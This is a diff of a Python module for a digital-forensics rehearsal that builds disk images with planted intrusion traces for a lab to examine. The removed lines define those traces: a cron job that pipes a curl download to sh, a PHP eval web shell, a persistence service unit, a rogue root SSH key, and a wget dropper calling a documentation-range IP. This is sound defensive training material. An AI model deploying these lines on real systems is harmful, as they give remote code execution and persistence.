@@ -1,8 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """The scenario `offline`: a lab receives a disk image and has to prove what it did with it.
 
-Evidence is made on the spot without root: `mke2fs -d` fills an ext4 partition from a folder with
-planted traces, `debugfs` deletes one of them; where `mkfs.xfs` is at hand there is an XFS disk too.
+Evidence is made on the spot without root: see `disks`.
 """
 
 from __future__ import annotations
@@ -11,10 +10,7 @@ import contextlib
 import hashlib
 import json
 import logging
-import os
-import random
 import shutil
-import struct
 import subprocess
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
@@ -31,16 +27,13 @@ from evidence_store.model import Authority
 from evidence_store.sign import LocalSigner
 from evidence_store.store import Case, Store
 from evidence_store.verify import verify_case
+from pipeline.gameday.disks import Trace, ext4_disk, plant, tool, traces, xfs_disk
 from pipeline.gameday.scorecard import Planted, Scorecard, must
 from pipeline.session import Session, tool_identity
 
 log = logging.getLogger(__name__)
 
 CASE = "GAMEDAY"
-_PARTITION = 1 << 20
-_DISK_BYTES = 160 << 20
-_XFS_BYTES = 320 << 20
-_SBIN = "/usr/sbin:/sbin"
 _LATER = [
     "AWS: isolation, snapshots, copy under the audit key, reading by EBS direct",
     "memory capture and live response over the permitted port",
@@ -49,42 +42,6 @@ _LATER = [
 ]
 
 Progress = Callable[[str], Callable[[int, int | None], None]]
-
-
-@dataclass(frozen=True)
-class Trace:
-    """A planted trace: where it lies, its content, and whether it is deleted afterwards."""
-
-    name: str
-    path: str
-    content: bytes
-    mode: int = 0o644
-    deleted: bool = False
-
-
-def traces(seed: int) -> list[Trace]:
-    """Return the traces of this seed; equal seeds, equal bytes."""
-    rng = random.Random(seed)  # noqa: S311 (made up evidence, not a secret)
-
-    def blob(size: int) -> bytes:
-        return b"\x7fELF" + rng.randbytes(size)
-
-    key = "ssh-ed25519 AAAAC3Nza" + rng.randbytes(24).hex() + " root@kali\n"
-    return [
-        Trace("cron job that fetches a payload", "etc/cron.d/.sysupd",
-              b"*/7 * * * * root curl -s http://203.0.113.9/u | sh\n"),
-        Trace("foreign key of root", "root/.ssh/authorized_keys", key.encode(), 0o600),
-        Trace("miner under a kernel thread's name", "var/tmp/.X11/[kworker/2:1]", blob(3 << 20),
-              0o755),
-        Trace("web shell", "var/www/html/img/.thumb.php",
-              b"<?php @eval($_POST['k']); ?>\n"),
-        Trace("unit that starts it again", "etc/systemd/system/dbus-broker-update.service",
-              b"[Service]\nExecStart=/var/tmp/.X11/[kworker/2:1]\nRestart=always\n"),
-        Trace("setuid shell", "usr/lib/.cache/sh", blob(120_000), 0o4755),
-        Trace("name that attacks the reader's terminal", "tmp/\x1b[2Jall clear\n.txt", b"hello\n"),
-        Trace("deleted dropper (its name remains)", "tmp/dropper.sh",
-              b"#!/bin/sh\nwget -q http://203.0.113.9/k\n", 0o755, deleted=True),
-    ]  # fmt: skip
 
 
 @dataclass
@@ -130,15 +87,12 @@ class OfflineGameDay:
     def _evidence(self, planted: list[Trace]) -> dict[str, Path]:
         with self.card.step("make evidence") as step:
             tree = self.folder / "tree"
-            for trace in planted:
-                path = tree / trace.path
-                path.parent.mkdir(parents=True, exist_ok=True)
-                path.write_bytes(trace.content)
-                path.chmod(trace.mode)
-            self._fill(tree)
-            disks = {"ext4 disk": self._ext4(tree, planted)}
-            if _tool("mkfs.xfs"):
-                disks["XFS disk"] = self._xfs(tree, planted)
+            plant(tree, planted, self.seed)
+            disks = {"ext4 disk": self.folder / "disk.img"}
+            ext4_disk(tree, disks["ext4 disk"], [t.path for t in planted if t.deleted])
+            if tool("mkfs.xfs"):
+                disks["XFS disk"] = self.folder / "xfs.img"
+                xfs_disk(tree, disks["XFS disk"])
             else:
                 self.card.not_rehearsed.append(
                     "XFS (mkfs.xfs is not installed: apt install xfsprogs)"
@@ -146,61 +100,6 @@ class OfflineGameDay:
             shutil.rmtree(tree)
             step.detail = ", ".join(disks)
         return disks
-
-    def _fill(self, tree: Path) -> None:
-        """Ordinary files around the traces, so that there is something to look through."""
-        rng = random.Random(self.seed + 1)  # noqa: S311
-        for i in range(400):
-            path = tree / f"usr/share/app{i % 20}/file{i:03d}.dat"
-            path.parent.mkdir(parents=True, exist_ok=True)
-            path.write_bytes(rng.randbytes(rng.randrange(0, 20_000)))
-            stamp = 1_750_000_000 + rng.randrange(0, 20 * 86_400)
-            os.utime(path, (stamp, stamp))
-
-    def _ext4(self, tree: Path, planted: list[Trace]) -> Path:
-        disk = self.folder / "disk.img"
-        with disk.open("wb") as f:
-            f.truncate(_DISK_BYTES)
-        sectors = (_DISK_BYTES - _PARTITION) // 512
-        with disk.open("r+b") as f:  # an MBR with one Linux partition that starts at 1 MiB
-            f.seek(446)
-            f.write(struct.pack("<B3sB3sII", 0, b"\0\2\0", 0x83, b"\xff\xff\xff", 2048, sectors))
-            f.seek(510)
-            f.write(b"\x55\xaa")
-        blocks = (_DISK_BYTES - _PARTITION) // 1024
-        _run("mke2fs", "-q", "-F", "-t", "ext4", "-E", f"offset={_PARTITION}", "-d", str(tree),
-             str(disk), f"{blocks}k")  # fmt: skip
-        for trace in planted:
-            if trace.deleted:
-                _run("debugfs", "-w", "-R", f"rm /{trace.path}", f"{disk}?offset={_PARTITION}")
-        return disk
-
-    def _xfs(self, tree: Path, planted: list[Trace]) -> Path:
-        """The same tree on XFS, by a prototype file (names with blanks cannot stand in one)."""
-        disk = self.folder / "xfs.img"
-        proto = self.folder / "xfs.proto"
-        modes = {tree / trace.path: trace.mode for trace in planted}
-
-        def lines(folder: Path) -> Iterator[str]:
-            for path in sorted(folder.iterdir()):
-                if any(c.isspace() or c == "\x1b" for c in path.name):
-                    continue
-                if path.is_dir():
-                    yield f"{path.name} d--755 0 0"
-                    yield from lines(path)
-                    yield "$"
-                else:
-                    mode = modes.get(path, 0o644)
-                    kind = "-u-" if mode & 0o4000 else "---"
-                    yield f"{path.name} {kind}{mode & 0o777:03o} 0 0 {path}"
-
-        proto.write_text(
-            "\n".join(["/boot/xfs", "0 0", "d--755 0 0", *lines(tree), "$", "$"]) + "\n"
-        )
-        with disk.open("wb") as f:
-            f.truncate(_XFS_BYTES)
-        _run("mkfs.xfs", "-q", "-f", "-p", str(proto), str(disk))
-        return disk
 
     def _open(self) -> None:
         with self.card.step("open case"):
@@ -319,17 +218,3 @@ def write_scorecard(card: Scorecard) -> Path:
     path = Path(card.folder) / "scorecard.json"
     path.write_text(json.dumps(card.document(), indent=1) + "\n")
     return path
-
-
-def _tool(name: str) -> str | None:
-    return shutil.which(name, path=f"{os.environ.get('PATH', '')}:{_SBIN}")
-
-
-def _run(name: str, *arguments: str) -> None:
-    tool = _tool(name)
-    must(tool, f"{name} is not installed (apt install {_PACKAGE.get(name, name)})")
-    done = subprocess.run([str(tool), *arguments], capture_output=True, text=True, check=False)
-    must(done.returncode == 0, f"{name} failed: {done.stderr.strip()[:300]}")
-
-
-_PACKAGE = {"mke2fs": "e2fsprogs", "debugfs": "e2fsprogs", "mkfs.xfs": "xfsprogs"}
